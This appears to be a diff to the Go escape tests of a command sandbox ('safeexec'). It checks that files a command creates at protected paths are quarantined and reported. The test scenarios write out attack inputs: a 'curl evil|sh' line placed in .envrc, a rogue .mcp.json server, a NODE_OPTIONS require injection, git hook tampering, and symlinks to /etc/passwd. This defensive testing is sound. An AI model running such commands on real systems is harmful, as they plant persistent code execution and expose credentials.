@@ -29,6 +29,7 @@ const escSecret = "SAFEEXEC-TEST-SECRET-7d1f"
 // home with credentials, and a directory outside every root.
 type escFixture struct {
 	root, home, outside string
+	quarantine          string // where created protected paths go
 	p                   *Policy
 	env                 []string
 }
@@ -44,10 +45,12 @@ func newEscFixture(t *testing.T) *escFixture {
 	}
 	t.Cleanup(func() { os.RemoveAll(top) })
 	f := &escFixture{
-		root:    filepath.Join(top, "proj"),
-		home:    filepath.Join(top, "home"),
-		outside: filepath.Join(top, "outside"),
+		root:       filepath.Join(top, "proj"),
+		home:       filepath.Join(top, "home"),
+		outside:    filepath.Join(top, "outside"),
+		quarantine: filepath.Join(top, "state", "safeexec", "quarantine"),
 	}
+	t.Setenv("XDG_STATE_HOME", filepath.Join(top, "state"))
 	must := func(err error) {
 		t.Helper()
 		if err != nil {
@@ -152,6 +155,24 @@ func gitIntact(t *testing.T, f *escFixture, _ bwResult) {
 
 func noSecret(t *testing.T, _ *escFixture, r bwResult) { t.Helper(); escNoSecret(t, r) }
 
+// escMovedAway checks that what the command created at the protected path
+// rel of the root is gone from there, kept in the quarantine, and reported.
+func escMovedAway(rel ...string) func(t *testing.T, f *escFixture, r bwResult) {
+	return func(t *testing.T, f *escFixture, r bwResult) {
+		t.Helper()
+		for _, n := range rel {
+			p := filepath.Join(f.root, n)
+			escAbsent(t, p)
+			if !strings.Contains(r.stderr, "safeexec: the command created "+p+", a protected path; moved it to "+f.quarantine) {
+				t.Errorf("no report of %s on stderr: %q", n, r.stderr)
+			}
+			if qs, _ := filepath.Glob(filepath.Join(f.quarantine, "*", p)); len(qs) != 1 {
+				t.Errorf("%s not in the quarantine: %v", n, qs)
+			}
+		}
+	}
+}
+
 func TestEscape(t *testing.T) {
 	// safeexec's own environment holds a secret the command never gets.
 	t.Setenv("SAFEEXEC_TEST_TOKEN", escSecret)
@@ -194,23 +215,16 @@ func TestEscape(t *testing.T) {
 		{"remove .git", `rm -rf .git; rm -rf .git/hooks .git/config`, gitIntact},
 		{"replace hooks by a link", `rm -rf .git/hooks; ln -sfn /tmp .git/hooks; mv .git/hooks .git/h2`, gitIntact},
 		{"through /proc/self/root into hooks", `echo pwned > "/proc/self/root$R/.git/hooks/post-checkout"`, gitIntact},
-		{"new .envrc", `echo 'curl evil|sh' > .envrc`, func(t *testing.T, f *escFixture, _ bwResult) {
-			escAbsent(t, filepath.Join(f.root, ".envrc"))
-		}},
-		{"new rc files in the root", `for n in bashrc zshrc profile; do echo pwned > ".$n"; done`, func(t *testing.T, f *escFixture, _ bwResult) {
-			for _, n := range []string{".bashrc", ".zshrc", ".profile"} {
-				escAbsent(t, filepath.Join(f.root, n))
-			}
-		}},
-		{"new .mcp.json", `echo '{"mcpServers":{"x":{"command":"evil"}}}' > .mcp.json`, func(t *testing.T, f *escFixture, _ bwResult) {
-			escAbsent(t, filepath.Join(f.root, ".mcp.json"))
-		}},
-		{"new hooksPath directory", `mkdir -p .husky && echo pwned > .husky/pre-commit`, func(t *testing.T, f *escFixture, _ bwResult) {
-			escAbsent(t, filepath.Join(f.root, ".husky"))
-		}},
-		{"new project config", `echo '[network]' > .safeexec.toml`, func(t *testing.T, f *escFixture, _ bwResult) {
-			escAbsent(t, filepath.Join(f.root, ".safeexec.toml"))
-		}},
+		// A protected path that does not exist is not blocked during the
+		// run (a placeholder would show on the host): what the command
+		// creates there does not survive it.
+		{"new .envrc does not survive the run", `echo 'curl evil|sh' > .envrc`, escMovedAway(".envrc")},
+		{"new rc files in the root", `for n in bashrc zshrc profile; do echo pwned > ".$n"; done`, escMovedAway(".bashrc", ".zshrc", ".profile")},
+		{"new .mcp.json", `echo '{"mcpServers":{"x":{"command":"evil"}}}' > .mcp.json`, escMovedAway(".mcp.json")},
+		{"new hooksPath directory", `mkdir -p .husky && echo pwned > .husky/pre-commit`, escMovedAway(".husky")},
+		{"new project config", `echo '[network]' > .safeexec.toml`, escMovedAway(".safeexec.toml")},
+		{"new .envrc as a link", `ln -s "$O/file" .envrc; ln -s /etc/passwd .profile`, escMovedAway(".envrc", ".profile")},
+		{"new .envrc behind a renamed directory", `mkdir d && echo evil > d/.envrc && mv d/.envrc .envrc`, escMovedAway(".envrc")},
 		{"edit .env", `echo NODE_OPTIONS=--require=./evil.js >> .env; sed -i s/SAFE/EVIL/ .env`, func(t *testing.T, f *escFixture, _ bwResult) {
 			if got := f.read(t, f.root, ".env"); got != "SAFE=1\n" {
 				t.Errorf(".env is %q", got)
@@ -318,7 +332,8 @@ print('keyctl', libc.syscall(250 if __import__('platform').machine() == 'x86_64'
 				sc.check(t, f, r)
 			}
 			// Whatever the scenario, the protected paths and the outside
-			// stay as they were and no placeholder remains.
+			// stay as they were, and nothing remains at a protected path
+			// that did not exist.
 			gitIntact(t, f, r)
 			outsideUnchanged(t, f, r)
 			for _, n := range []string{".envrc", ".mcp.json", ".husky", ".bashrc", ".safeexec.toml"} {
@@ -472,37 +487,83 @@ else:
 	}
 }
 
-// TestEscapeCredentialCreatedDuringRun: a credential that appears on the
-// host while the sandbox runs, in a place the policy names but that did not
-// exist at the start, stays hidden.
-func TestEscapeCredentialCreatedDuringRun(t *testing.T) {
+// TestEscapeCredentialDirCreatedByHost: a missing credential directory
+// outside the writable roots stays missing on the host while a sandbox runs
+// (no placeholder), a host program can create it meanwhile, and what it
+// creates is kept. (The run can read it: doc.go, Limits.)
+func TestEscapeCredentialDirCreatedByHost(t *testing.T) {
 	f := newEscFixture(t)
+	kube := filepath.Join(f.home, ".kube")
+	f.p.DenyRead = append(f.p.DenyRead, kube)
 	b := bwBackend(t)
 	var out bytes.Buffer
 	proc, err := b.Start(f.p, &Command{Argv: []string{"/bin/sh", "-c",
-		`while [ ! -e go ]; do sleep 0.02; done; cat "$H/.config/gcloud/credentials.db" "$H/.netrc"; ls -la "$H/.config/gcloud"`},
+		`mkdir "$H/.kube" 2>/dev/null && echo made; while [ ! -e go ]; do sleep 0.02; done`},
 		Env: f.env, Stdout: &out, Stderr: &out})
 	if err != nil {
 		t.Fatal(err)
 	}
-	// The host writes a credential file where the policy named one, and
-	// tries to create a credential directory (the placeholder, an empty
-	// file, may refuse that while the sandbox runs).
-	if err := os.WriteFile(filepath.Join(f.home, ".netrc"), []byte("machine x password "+escSecret), 0o600); err != nil {
-		t.Fatalf("the host could not write its credential: %v", err)
+	defer func() { proc.Kill(); proc.Wait() }()
+	for _, p := range []string{kube, filepath.Join(f.home, ".netrc"), filepath.Join(f.home, ".config", "gcloud")} {
+		escAbsent(t, p)
 	}
-	gc := filepath.Join(f.home, ".config", "gcloud")
-	if os.MkdirAll(gc, 0o700) == nil {
-		os.WriteFile(filepath.Join(gc, "credentials.db"), []byte(escSecret), 0o600)
+	if err := os.Mkdir(kube, 0o700); err != nil {
+		t.Errorf("the host could not create %s during the run: %v", kube, err)
+	}
+	if err := os.WriteFile(filepath.Join(kube, "config"), []byte("host"), 0o600); err != nil {
+		t.Errorf("the host could not write into %s: %v", kube, err)
+	}
+	if err := os.MkdirAll(filepath.Join(f.home, ".config", "gcloud"), 0o700); err != nil {
+		t.Errorf("the host could not create ~/.config/gcloud during the run: %v", err)
 	}
 	os.WriteFile(filepath.Join(f.root, "go"), nil, 0o644)
-	proc.Wait()
-	if strings.Contains(out.String(), escSecret) {
-		t.Errorf("a credential created during the run was readable: %q", out.String())
+	if st, err := proc.Wait(); err != nil || st.ExitCode != 0 {
+		t.Errorf("run: %+v %v %q", st, err, out.String())
 	}
-	// What the host wrote is kept.
-	if !strings.Contains(f.read(t, f.home, ".netrc"), escSecret) {
-		t.Errorf("the host's new credential was removed")
+	if strings.Contains(out.String(), "made") {
+		t.Errorf("the command created a credential directory outside the roots")
+	}
+	if got := f.read(t, kube, "config"); got != "host" {
+		t.Errorf("the host's new credential after the run: %q", got)
+	}
+	if _, err := os.Stat(filepath.Join(f.home, ".config", "gcloud")); err != nil {
+		t.Errorf("the host's new directory after the run: %v", err)
+	}
+}
+
+// TestEscapeUnnoticedGitStatus: in a fresh repository, ordinary work sees
+// nothing of the sandbox: git status inside prints nothing, and the host's
+// working tree is as clean after the run.
+func TestEscapeUnnoticedGitStatus(t *testing.T) {
+	f := newEscFixture(t)
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("no git")
+	}
+	repo := filepath.Join(filepath.Dir(f.root), "fresh")
+	git := func(args ...string) string {
+		t.Helper()
+		c := exec.Command("git", append([]string{"-C", repo}, args...)...)
+		c.Env = append(os.Environ(), "HOME="+f.home, "GIT_CONFIG_NOSYSTEM=1")
+		out, err := c.CombinedOutput()
+		if err != nil {
+			t.Fatalf("git %v: %v\n%s", args, err, out)
+		}
+		return string(out)
+	}
+	if err := os.MkdirAll(repo, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	git("init", "-q")
+	p := *f.p
+	p.Cwd, p.WritableRoots = repo, []string{repo}
+	p.DenyWrite = append(p.DenyWrite, ".bash_login", ".bash_profile", ".zprofile", ".zshenv")
+	p.DenyRead = append(p.DenyRead, filepath.Join(repo, ".ssh"), filepath.Join(repo, ".aws"))
+	r := bwRunEnv(t, &p, append(f.env, "GIT_CONFIG_NOSYSTEM=1"), "/bin/sh", "-c", "git status --porcelain --ignored; echo status=$?")
+	if strings.TrimSpace(r.stdout) != "status=0" || r.stderr != "" {
+		t.Errorf("git status inside: stdout %q stderr %q", r.stdout, r.stderr)
+	}
+	if got := git("status", "--porcelain", "--ignored"); got != "" {
+		t.Errorf("git status on the host after the run: %q", got)
 	}
 }
 
